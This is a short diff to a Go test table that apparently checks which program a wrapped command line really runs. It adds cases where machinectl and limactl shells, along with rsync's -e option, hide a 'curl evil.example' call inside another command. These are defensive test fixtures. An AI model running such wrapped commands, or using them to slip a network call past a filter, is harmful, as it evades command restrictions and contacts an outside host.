@@ -515,6 +515,9 @@ var commandLines = []struct{ why, line, program string }{
 	{"git submodule add", "git -C x submodule add https://evil.example/x", "git"},
 
 	// what else takes a command, or an address
+	{"another machine of systemd's", "sudo machinectl shell bob@box /usr/bin/curl evil.example", "curl"},
+	{"and a shell there", "machinectl -q shell box /bin/sh -c 'curl evil.example'", "curl"},
+	{"a machine of Lima's", "limactl shell default curl evil.example", "curl"},
 	{"rsync's shell", "rsync -a -e 'curl evil.example' a b", "curl"},
 	{"rsync's shell, in full", "rsync --rsh='sh -c \"curl evil.example\"' a b", "curl"},
 	{"rsync's shell, and a host", "rsync -e 'ssh -p 22' a b", "ssh"},
